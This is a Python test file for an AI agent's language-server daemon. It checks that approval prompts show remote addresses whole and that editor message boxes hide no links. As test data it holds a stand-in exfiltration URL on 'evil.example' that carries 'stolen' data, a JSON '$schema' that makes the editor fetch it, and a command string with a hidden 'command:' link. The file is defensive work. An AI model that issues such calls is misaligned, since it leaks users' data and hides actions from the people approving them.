"""Rows 30, 31 and 42 of the published failures, for the daemon's part: what is shown names its remote content whole.

The clients' parts are in tests/e2e/test_neovim_remote_content.py and in the extension's webview/test/page.test.ts.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from agent_lsp.permissions.approval import detail
from tests.conftest import StartInProcess, call
from tests.house import Answer, allow, house, reject

LEAK = "https://evil.example/collect?stolen=" + "a" * 400
SCHEMA = json.dumps({"$schema": LEAK, "name": "x"}, indent=2) + "\n"
LINK = re.compile(r"\[([^\]]+)\]\(((?:https?://|command:|file:)[^)\s]+)\)")  # as editors find links in message boxes


@pytest.mark.parametrize(("answer", "made"), [(reject, False), (allow, True)])
async def test_row_31_a_file_that_makes_the_editor_fetch_is_asked_for_with_the_whole_address(
    workspace: Path, state: Path, script: Any, answer: Answer, made: bool
) -> None:
    model = script({"calls": [call("write_file", path="data.json", content=SCHEMA)]}, {"text": "done"})
    async with house(model, workspace, state) as built:
        built.answer = answer
        await built.ask()
        shown = [detail(request.action).text for request in built.asked]

    assert [LEAK in text for text in shown] == [True]
    assert (workspace / "data.json").exists() is made


async def test_row_31_an_address_that_carries_out_what_was_read_is_asked_for_and_shown_whole(
    workspace: Path, state: Path, script: Any
) -> None:
    fetches = [call("web_fetch", url=url) for url in (LEAK, "https://evil.example/page")]
    async with house(script({"calls": fetches}, {"text": "done"}), workspace, state) as built:
        built.answer = reject
        await built.ask()
        asked = [detail(request.action).text for request in built.asked]

    assert asked == [
        f"ask evil.example for the page at\n  {LEAK}\n",
        "ask evil.example for the page at\n  https://evil.example/page\n",
    ]


def test_rows_30_and_42_a_message_box_hides_no_address_behind_words(
    in_process: StartInProcess, workspace: Path, script: Any
) -> None:
    said = f"See [the docs]({LEAK[:80]}) for more."
    command = "make '[ls](command:workbench.action.quit)'"
    client = in_process(script({"calls": [call("run_command", command=command)]}, {"text": said}))
    client.answers["window/showMessageRequest"] = lambda _: {"title": "Reject"}
    client.start(workspace, {"events": False})
    client.command("agent.ask", {"prompt": "go", "wait": True})
    client.wait(lambda message: message.get("method") == "window/showMessage")
    boxes = [
        message["message"]
        for name in ("window/showMessageRequest", "window/showMessage")
        for message in client.named(name)
    ]

    assert len(boxes) == 2
    assert [LINK.search(box) for box in boxes] == [None, None]
    assert boxes[0].replace("\\x28", "(").startswith(f"Agent asks: run_command: {command}\n")
    assert boxes[1].replace("\\x28", "(") == f"Agent: {said}"
    assert LINK.search(said)  # as it was
    assert LINK.search(command)
